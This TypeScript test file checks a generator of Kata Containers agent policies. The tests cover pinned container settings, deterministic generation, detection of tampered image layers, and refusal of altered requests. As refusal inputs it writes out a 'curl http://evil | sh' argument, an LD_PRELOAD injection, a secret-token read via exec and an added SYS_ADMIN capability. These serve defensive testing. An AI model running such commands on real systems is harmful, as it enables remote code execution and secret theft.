// `katats policy gen`: policies generated from manifests and OCI archives, what they pin, that
// generation is deterministic and reads each layer once, and that the generated policy decides on
// agent requests as they really come: the CRI requests test/support/kubelet.ts made for
// fixtures/gen/pod.yaml, as Debian's containerd 1.6 and our shim turned them into agent requests
// (fixtures/gen/cri-bookworm.json), serialised as the agent serialises them. Allowed as generated;
// one thing changed is refused, and the explanation names the field.
import fs from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { busyboxImage, type BusyboxImage } from '../../harness/images/busybox.js';
import { buildOciImage } from '../../harness/images/oci.js';
import { pauseImage, type PauseImage } from '../../harness/images/pause.js';
import { writeTar } from '../../harness/images/tar.js';
import { genCommand } from '../../policy/gen/cli.js';
import { annotatedManifest, generate, type PodPolicy } from '../../policy/gen/generate.js';
import { ImageError, ImageResolver, LayerCache, OciArchive } from '../../policy/gen/image.js';
import { parseManifest, POLICY_ANNOTATION } from '../../policy/gen/manifest.js';
import { parseSettings, DEFAULT_SETTINGS } from '../../policy/gen/settings.js';
import { tempDir } from '../support/tmp.js';
import { agentInput, Decider, type Req } from './decider.js';

const FIX = path.join(import.meta.dirname, 'fixtures', 'gen');
const POD_YAML = fs.readFileSync(path.join(FIX, 'pod.yaml'), 'utf8');
const CAPTURED = (JSON.parse(fs.readFileSync(path.join(FIX, 'cri-bookworm.json'), 'utf8')) as { requests: Req[] }).requests;

let busybox: BusyboxImage;
let pause: PauseImage;
let tmp: { dir: string; cleanup: () => void };

function resolver(cacheFile?: string, extra: string[] = []): ImageResolver {
  return new ImageResolver([busybox.archive, pause.archive, ...extra].map((f) => new OciArchive(f)), new LayerCache(cacheFile));
}

async function policyFor(yaml: string, extra: string[] = []): Promise<PodPolicy> {
  const r = await generate(yaml, { images: resolver(undefined, extra) });
  expect(r.pods.length).toBe(1);
  return r.pods[0]!;
}

const created = () => CAPTURED.filter((r) => r.kind === 'CreateContainerRequest');
const byName = (name: string) => created().find((r) => ((r.OCI as { Annotations: Record<string, string> }).Annotations['io.kubernetes.cri.container-name'] ?? '') === name)!;

beforeAll(async () => {
  tmp = tempDir('kt-policy-gen-');
  busybox = await busyboxImage();
  pause = await pauseImage();
}, 300_000);

afterAll(() => tmp?.cleanup());

describe('what a generated policy pins', () => {
  it('per container: command, environment, user, capabilities, mounts, namespaces, probes; the sandbox storages', async () => {
    const p = await policyFor(POD_YAML);
    const [sandbox, app, sidecar] = p.data.containers;
    expect(p.data.containers.map((c) => c.name)).toEqual(['', 'app', 'sidecar']);
    expect(sandbox!.OCI.Process.Args).toEqual(['/pause']);
    expect(sandbox!.OCI.Root.Readonly).toBe(true);
    // kubelet expands $(MODE) from the ConfigMap; the Secret comes in through envFrom.
    expect(app!.OCI.Process.Args).toEqual(['sh', '-c', 'echo prod > /scratch/mode; exec sleep 100000']);
    expect(app!.OCI.Process.Env).toEqual(['PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin', 'TOKEN=secret', 'MODE=prod', 'POD_NAME=policy-pod']);
    // a host-network pod's HOSTNAME is the node's: any DNS label
    expect(app!.env_regex).toEqual(['^HOSTNAME=(?:[a-zA-Z0-9_\\.\\-]+)$']);
    expect(app!.OCI.Process.User).toEqual({ UID: 0, GID: 0, AdditionalGids: [0], Username: '' });
    expect(app!.exec_commands).toEqual([['cat', '/etc/app/greeting.txt']]);
    expect(sidecar!.OCI.Process.Capabilities.Bounding).not.toContain('CAP_NET_RAW');
    expect(sidecar!.OCI.Process.Capabilities.Bounding).toContain('CAP_CHOWN');
    expect(sidecar!.OCI.Process.NoNewPrivileges).toBe(true);
    const mounts = (c: typeof app) => Object.fromEntries(c!.OCI.Mounts.map((m) => [m.destination, m.options.join(',')]));
    expect(mounts(app)).toMatchObject({ '/etc/app': 'rbind,rprivate,ro', '/scratch': 'rbind,rprivate,rw', '/etc/hosts': 'rbind,rprivate,rw', '/dev/shm': 'rbind,rprivate,rw' });
    expect(mounts(sidecar)).toMatchObject({ '/etc/secret': 'rbind,rprivate,ro', '/scratch': 'rbind,rprivate,rw' });
    expect(app!.OCI.Mounts.find((m) => m.destination === '/etc/app')!.source).toBe('^/run/kata-containers/shared/containers/$(bundle-id)/mounts/[0-9a-f]{12}-[^/]+$');
    expect(app!.optional_mounts).toEqual(['/dev/termination-log', '/etc/hosts', '/var/run/secrets/kubernetes.io/serviceaccount']);
    expect(sandbox!.OCI.Linux.Namespaces.map((n) => n.Type)).toEqual(['pid', 'ipc', 'mount']);
    expect(app!.OCI.Linux.Namespaces.map((n) => n.Type)).toEqual(['pid', 'ipc', 'uts', 'mount']);
    expect(app!.OCI.Annotations['io.kubernetes.cri.sandbox-name']).toBe('^policy-pod$');
    expect(app!.image.layers).toEqual([{ diff_id: busybox.diffId }]);
    expect(p.data.sandbox.storages.map((s) => s.driver)).toEqual(['9p', 'virtio-fs', 'ephemeral']);
    // exec and log streaming are refused unless the manifest or the settings allow them
    expect(p.data.request_defaults.ReadStreamRequest).toBe(false);
    expect(p.data.request_defaults.ExecProcessRequest.allowed_commands).toEqual([]);
    // the settings' own placeholders are filled; only $(bundle-id) is left for the rules
    expect(p.text.match(/\$\([a-z0-9_-]+\)/g)!.every((m) => m === '$(bundle-id)')).toBe(true);
  });

  it('a Deployment: the pod name as a pattern, the downward API and $(VAR) in args as patterns', async () => {
    const yaml = `apiVersion: apps/v1
kind: Deployment
metadata: { name: web, namespace: shop }
spec:
  template:
    metadata:
      annotations: { policy.katats.io/allow-log-streaming: "true", policy.katats.io/allow-exec: '[["sh", "-c", "date"]]' }
    spec:
      containers:
        - name: web
          image: katats.local/busybox:latest
          env:
            - { name: POD_IP, valueFrom: { fieldRef: { fieldPath: status.podIP } } }
            - { name: ME, valueFrom: { fieldRef: { fieldPath: metadata.name } } }
          args: [ echo, "http://$(POD_IP):8080/" ]
          livenessProbe: { exec: { command: [ "true" ] } }
`;
    const p = await policyFor(yaml);
    const web = p.data.containers[1]!;
    expect(web.OCI.Annotations['io.kubernetes.cri.sandbox-name']).toBe('^web-[a-z0-9]{1,10}-[a-z0-9]{5}$');
    expect(web.OCI.Annotations['io.kubernetes.cri.sandbox-namespace']).toBe('^shop$');
    // the image's Cmd is replaced by args; its Entrypoint (none) stays
    expect(web.OCI.Process.Args).toEqual(['echo', 'http://:8080/']);
    expect(web.args_regex![1]).toMatch(/^\^http:\/\/\(\?:.*\):8080\/\$$/);
    expect(new RegExp(web.args_regex![1]!).test('http://10.1.2.3:8080/')).toBe(true);
    expect(web.env_regex.some((r) => new RegExp(r).test('ME=web-7c9f8d6b5-x2x4q'))).toBe(true);
    expect(web.env_regex.some((r) => new RegExp(r).test('ME=evil'))).toBe(false);
    expect(web.exec_commands).toEqual([['true'], ['sh', '-c', 'date']]);
    expect(p.data.request_defaults.ReadStreamRequest).toBe(true);
  });

  it('the image user: uid and gid from its /etc/passwd, the groups it is a member of, the top-most layer winning', async () => {
    const layer1 = writeTar([
      { type: 'file', path: 'etc/passwd', data: Buffer.from('root:x:0:0::/root:/bin/sh\napp:x:1000:1000::/home/app:/bin/sh\n') },
      { type: 'file', path: 'etc/group', data: Buffer.from('root:x:0:\napp:x:1000:\nextra:x:3000:app\n') },
    ]);
    // the second layer replaces /etc/passwd: app becomes 1001 in group 1001
    const layer2 = writeTar([{ type: 'file', path: 'etc/passwd', data: Buffer.from('root:x:0:0::/root:/bin/sh\napp:x:1001:1001::/home/app:/bin/sh\n') }]);
    const img = buildOciImage({ name: 'katats.local/useful:1', layers: [layer1, layer2], config: { user: 'app', entrypoint: ['/bin/app'], cmd: ['--serve'], workingDir: '/srv', env: ['PATH=/bin', 'A=1'], volumes: ['/data'] } });
    const file = path.join(tmp.dir, 'useful.oci.tar');
    fs.writeFileSync(file, img.archive);
    const yaml = `apiVersion: v1
kind: Pod
metadata: { name: u }
spec:
  securityContext: { supplementalGroups: [5000], fsGroup: 6000 }
  containers:
    - { name: c, image: katats.local/useful:1, env: [ { name: A, value: "2" } ] }
`;
    const c = (await policyFor(yaml, [file])).data.containers[1]!;
    expect(c.OCI.Process.User).toEqual({ UID: 1001, GID: 1001, AdditionalGids: [1001, 3000, 5000, 6000], Username: '' });
    expect(c.OCI.Process.Args).toEqual(['/bin/app', '--serve']);
    expect(c.OCI.Process.Cwd).toBe('/srv');
    // a manifest variable replaces the image's of the same name (containerd's WithEnv)
    expect(c.OCI.Process.Env).toEqual(['PATH=/bin', 'A=2', 'HOSTNAME=u']);
    expect(c.OCI.Mounts.find((m) => m.destination === '/data')?.options).toEqual(['rbind', 'rprivate', 'rw']);
  });
});

describe('generation is deterministic and reads each layer once', () => {
  it('the same inputs give the same bytes, with or without the layer cache; a cached layer is not read again', async () => {
    const cacheFile = path.join(tmp.dir, 'layers.json');
    const first = resolver(cacheFile);
    const a = await generate(POD_YAML, { images: first });
    first.cache.save();
    expect(first.cache.misses.length).toBe(2);
    expect(first.cache.misses).toContain(busybox.diffId);
    const second = resolver(cacheFile);
    const b = await generate(POD_YAML, { images: second });
    expect(second.cache.misses).toEqual([]);
    const c = await generate(POD_YAML, { images: resolver() });
    expect(b.pods[0]!.text).toBe(a.pods[0]!.text);
    expect(c.pods[0]!.text).toBe(a.pods[0]!.text);
    // the annotation holds exactly that text
    const annotated = parseManifest(annotatedManifest(a));
    expect(Buffer.from(annotated.pods[0]!.metadata.annotations![POLICY_ANNOTATION]!, 'base64').toString()).toBe(a.pods[0]!.text);
  });

  it('refuses a layer whose bytes are not what the image config says (diff_id), and an image no archive has', async () => {
    const good = writeTar([{ type: 'file', path: 'etc/passwd', data: Buffer.from('root:x:0:0::/:/bin/sh\n') }]);
    const img = buildOciImage({ name: 'katats.local/tampered:1', layers: [good], gzip: false, config: { cmd: ['/x'] } });
    // flip one byte of the (uncompressed) layer blob inside the archive, keeping the tar valid
    const at = img.archive.indexOf(Buffer.from('root:x:0:0'));
    const bad = Buffer.from(img.archive);
    bad[at] = 'R'.charCodeAt(0);
    const file = path.join(tmp.dir, 'tampered.oci.tar');
    fs.writeFileSync(file, bad);
    const pod = (image: string) => `apiVersion: v1\nkind: Pod\nmetadata: { name: t }\nspec: { containers: [ { name: c, image: ${image} } ] }\n`;
    await expect(policyFor(pod('katats.local/tampered:1'), [file])).rejects.toThrow(ImageError);
    await expect(policyFor(pod('katats.local/tampered:1'), [file])).rejects.toThrow(/has digest|uncompressed digest/);
    await expect(policyFor(pod('katats.local/missing:1'))).rejects.toThrow(/katats.local\/missing:1: not in any of the given image sources/);
  });

  it('refuses what it cannot pin: subPath, privileged, a missing ConfigMap, unknown kinds, unknown settings', async () => {
    const pod = (c: string) => `apiVersion: v1\nkind: Pod\nmetadata: { name: t }\nspec:\n  volumes: [ { name: v, emptyDir: {} } ]\n  containers: [ ${c} ]\n`;
    await expect(policyFor(pod('{ name: c, image: katats.local/busybox:latest, volumeMounts: [ { name: v, mountPath: /v, subPath: x } ] }'))).rejects.toThrow(/subPath is not supported/);
    await expect(policyFor(pod('{ name: c, image: katats.local/busybox:latest, securityContext: { privileged: true } }'))).rejects.toThrow(/privileged/);
    await expect(policyFor(pod('{ name: c, image: katats.local/busybox:latest, envFrom: [ { configMapRef: { name: nope } } ] }'))).rejects.toThrow(/ConfigMap nope is not among the inputs/);
    await expect(policyFor('apiVersion: v1\nkind: Gadget\nmetadata: { name: g }\n')).rejects.toThrow(/kind Gadget is not supported/);
    await expect(policyFor(pod('{ name: c, image: katats.local/busybox:latest, command: [ sleep, 10 ] }'))).rejects.toThrow(/command: must be a list of strings/);
    await expect(policyFor(pod('{ name: c, image: katats.local/busybox:latest, env: [ { name: X, value: 1 } ] }'))).rejects.toThrow(/env X: name and value must be strings/);
    expect(() => parseSettings(JSON.stringify({ ...DEFAULT_SETTINGS, surprise: 1 }))).toThrow(/unknown key surprise/);
    expect(() => parseSettings(JSON.stringify({ ...DEFAULT_SETTINGS, oci_version: 1 }))).toThrow(/oci_version must be a string/);
  });

  it('katats policy gen: the annotated manifest on stdout, the policy digest on stderr; --raw prints the policy', async () => {
    const manifest = path.join(tmp.dir, 'pod.yaml');
    fs.writeFileSync(manifest, POD_YAML);
    const run = async (args: string[]) => {
      const out: string[] = [];
      const err: string[] = [];
      const code = await genCommand(args, { out: (s) => out.push(s), err: (s) => err.push(s) });
      return { code, out: out.join('\n'), err: err.join('\n') };
    };
    const common = ['--no-layers-cache', '--image-archive', busybox.archive, '--image-archive', pause.archive];
    const raw = await run([manifest, '--raw', ...common]);
    expect(raw.code, raw.err).toBe(0);
    const digest = /Pod\/policy-pod: policy sha256:([0-9a-f]{64})/.exec(raw.err)![1]!;
    const { createHash } = await import('node:crypto');
    expect(createHash('sha256').update(`${raw.out}\n`).digest('hex')).toBe(digest);
    const annotated = await run([manifest, ...common]);
    expect(annotated.code).toBe(0);
    expect(annotated.out).toContain(`${POLICY_ANNOTATION}: `);
    expect(annotated.out).toContain('kind: ConfigMap');
    const missing = await run([manifest, '--no-layers-cache', '--image-archive', pause.archive]);
    expect(missing.code).toBe(1);
    expect(missing.err).toMatch(/katats.local\/busybox:latest: not in any of the given image sources/);
  });
});

describe('the generated policy on the requests containerd and the shim really send', () => {
  let text: string;
  beforeAll(async () => {
    text = (await policyFor(POD_YAML)).text;
  });

  it('allows the pod as generated: CreateSandbox, the pause container and both containers, the probe exec', () => {
    const d = new Decider(text);
    for (const r of CAPTURED) {
      const res = d.decide(r.kind, agentInput(r));
      expect(res.allowed, `${r.kind} ${JSON.stringify(res.why)}`).toBe(true);
    }
    // the state remembers the sandbox and which policy container each container is
    const pstate = d.state.pstate as Record<string, unknown>;
    expect(pstate.sandbox_name).toBe('policy-pod');
    expect(Object.values(pstate).filter((v) => typeof v === 'number').sort()).toEqual([0, 1, 2]);
  });

  /** The captured pod up to (not including) `target`, then `target` changed by `change`. */
  function decideChanged(target: Req, change: (r: Req) => void, kind = target.kind) {
    const d = new Decider(text);
    for (const r of CAPTURED) {
      if (r === target) break;
      expect(d.decide(r.kind, agentInput(r)).allowed).toBe(true);
    }
    const changed = structuredClone(target);
    change(changed);
    return d.decide(kind, agentInput(changed));
  }

  interface Oci {
    Process: { Args: string[]; Env: string[]; User: { UID: number }; Capabilities: { Bounding: string[] } };
    Mounts: { destination: string; source: string; options: string[] }[];
    Annotations: Record<string, string>;
    Hooks?: unknown;
  }
  const oci = (r: Req) => r.OCI as Oci;

  it.each<[string, string, (r: Req) => void, RegExp]>([
    ['an argument', 'app', (r) => (oci(r).Process.Args[2] = 'curl http://evil | sh'), /allow_args: i_args == p.OCI.Process.Args is false .*curl http:\/\/evil/],
    ['an environment variable', 'app', (r) => (oci(r).Process.Env = oci(r).Process.Env.map((v) => (v === 'MODE=prod' ? 'MODE=debug' : v))), /allow_env: env_missing == set\(\) is false \(env_missing = \{"MODE=prod"\}\)/],
    ['an added environment variable', 'sidecar', (r) => oci(r).Process.Env.push('LD_PRELOAD=/tmp/x.so'), /env_not_allowed = \{"LD_PRELOAD=\/tmp\/x.so"\}/],
    ['a mount source (another container\'s rootfs)', 'sidecar', (r) => (oci(r).Mounts.find((m) => m.destination === '/etc/secret')!.source = `/run/kata-containers/shared/containers/${String(byName('app').container_id)}/rootfs`), /mounts_not_allowed = \[\{"destination": "\/etc\/secret"/],
    ['a read-only mount made writable', 'app', (r) => (oci(r).Mounts.find((m) => m.destination === '/etc/app')!.options = ['rbind', 'rprivate', 'rw']), /mounts_not_allowed = \[\{"destination": "\/etc\/app", "options": \["rbind", "rprivate", "rw"\]/],
    ['a mount left out', 'app', (r) => (oci(r).Mounts = oci(r).Mounts.filter((m) => m.destination !== '/scratch')), /mounts_missing = \["\/scratch"\]/],
    ['a capability', 'sidecar', (r) => oci(r).Process.Capabilities.Bounding.push('CAP_SYS_ADMIN'), /caps_not_allowed = \{"Bounding:SYS_ADMIN"\}/],
    ['the dropped capability given back', 'sidecar', (r) => oci(r).Process.Capabilities.Bounding.push('CAP_NET_RAW'), /caps_not_allowed = \{"Bounding:NET_RAW"\}/],
    ['the user', 'app', (r) => (oci(r).Process.User.UID = 1000), /allow_user: i_user.UID == p_user.UID is false \(i_user.UID = 1000, p_user.UID = 0\)/],
    ['an OCI hook', 'app', (r) => (oci(r).Hooks = { Prestart: [{ Path: '/bin/sh' }] }), /input.OCI.Hooks == null is false/],
    ['the pod name', 'app', (r) => (oci(r).Annotations['io.kubernetes.cri.sandbox-name'] = 'other-pod'), /annotations_not_allowed = \{"io.kubernetes.cri.sandbox-name=other-pod"\}/],
    ['a container the pod does not have', 'app', (r) => (oci(r).Annotations['io.kubernetes.cri.container-name'] = 'miner'), /c.name == container_name is false/],
  ])('refuses %s, naming it', (_what, container, change, why) => {
    const res = decideChanged(byName(container), change);
    expect(res.allowed).toBe(false);
    expect(res.why.join('\n')).toMatch(why);
  });

  it('refuses a container whose sandbox id differs from the sandbox the pod started with', () => {
    const res = decideChanged(byName('app'), (r) => (oci(r).Annotations['io.kubernetes.cri.sandbox-id'] = 'f'.repeat(64)));
    expect(res.allowed).toBe(false);
    expect(res.why.join('\n')).toMatch(/data.pstate\[key\] == value is false/);
  });

  it('exec: the probe command runs, anything else is refused with the allowed list; log streaming is refused', () => {
    const exec = CAPTURED.find((r) => r.kind === 'ExecProcessRequest')!;
    const shell = decideChanged(exec, (r) => ((r.process as { Args: string[] }).Args = ['sh', '-c', 'cat /etc/secret/TOKEN']));
    expect(shell.allowed).toBe(false);
    expect(shell.why.join('\n')).toMatch(/args in p.exec_commands is false .*\[\["cat", "\/etc\/app\/greeting.txt"\]\]/);
    const asRoot = decideChanged(exec, (r) => ((r.process as { User: { UID: number } }).User.UID = 0));
    expect(asRoot.allowed).toBe(true);
    const asOther = decideChanged(exec, (r) => ((r.process as { User: { UID: number } }).User.UID = 1000));
    expect(asOther.allowed).toBe(false);
    const d = new Decider(text);
    expect(d.decide('ReadStreamRequest', '{"container_id":"x","exec_id":"","len":1024}').allowed).toBe(false);
    expect(d.decide('SetPolicyRequest', '{"policy":"package agent_policy"}').allowed).toBe(false);
    expect(d.decide('WaitProcessRequest', '{"container_id":"x","exec_id":""}').allowed).toBe(true);
  });

  it('CreateSandbox: refused with guest hooks, kernel modules or a storage the settings do not list', () => {
    const sb = CAPTURED.find((r) => r.kind === 'CreateSandboxRequest')!;
    for (const [change, why] of [
      [(r: Req) => (r.guest_hook_path = '/run/kata-containers/shared/containers/hooks'), /input.guest_hook_path == "" is false/],
      [(r: Req) => (r.kernel_modules = [{ name: 'evil', parameters: [] }]), /count\(input.kernel_modules\) == 0 is false/],
      [(r: Req) => (r.storages as { options: string[] }[])[0]!.options.push('dax'), /sandbox_storages_not_allowed = \[\{"driver": "9p"/],
    ] as const) {
      const res = decideChanged(sb, change);
      expect(res.allowed).toBe(false);
      expect(res.why.join('\n')).toMatch(why);
    }
  });
});

describe("the pod's KBS annotation, pinned by the generated policy", () => {
  const KBS = 'io.katats.attestation.kbs_url';
  const URL_A = 'http://10.88.0.1:8080';
  /** The captured pod with the KBS annotation on every spec, as CRI passes pod annotations through. */
  const withKbs = (url: string): Req[] =>
    CAPTURED.map((r) => {
      if (r.kind !== 'CreateContainerRequest') return r;
      const c = structuredClone(r);
      (c.OCI as { Annotations: Record<string, string> }).Annotations[KBS] = url;
      return c;
    });
  const run = (text: string, reqs: Req[]) => {
    const d = new Decider(text);
    return reqs.map((r) => ({ kind: r.kind, res: d.decide(r.kind, agentInput(r)) }));
  };

  it('allows the KBS the manifest names and refuses any other, naming it; a KBS the manifest does not name is refused', async () => {
    const yaml = POD_YAML.replace('  name: policy-pod\n  namespace: default\n', `  name: policy-pod\n  namespace: default\n  annotations:\n    ${KBS}: "${URL_A}"\n`);
    expect(yaml).not.toBe(POD_YAML);
    const pinned = (await policyFor(yaml)).text;
    for (const { kind, res } of run(pinned, withKbs(URL_A))) expect(res.allowed, `${kind} ${JSON.stringify(res.why)}`).toBe(true);
    const other = run(pinned, withKbs('http://10.88.0.1:9999')).find((x) => !x.res.allowed);
    expect(other?.kind).toBe('CreateContainerRequest');
    expect(other!.res.why.join('\n')).toMatch(/annotations_not_allowed = \{"io.katats.attestation.kbs_url=http:\/\/10.88.0.1:9999"\}/);
    // The manifest names no KBS: one the host adds is refused.
    const unpinned = (await policyFor(POD_YAML)).text;
    const added = run(unpinned, withKbs(URL_A)).find((x) => !x.res.allowed);
    expect(added!.res.why.join('\n')).toMatch(/annotations_not_allowed = \{"io.katats.attestation.kbs_url=http:\/\/10.88.0.1:8080"\}/);
  });

  it('refuses to generate for a KBS URL the agent would not take', async () => {
    const yaml = POD_YAML.replace('  name: policy-pod\n  namespace: default\n', `  name: policy-pod\n  namespace: default\n  annotations:\n    ${KBS}: "ftp://kbs"\n`);
    await expect(policyFor(yaml)).rejects.toThrow(/annotation io.katats.attestation.kbs_url: KBS URL "ftp:\/\/kbs" is not http\(s\)/);
  });
});
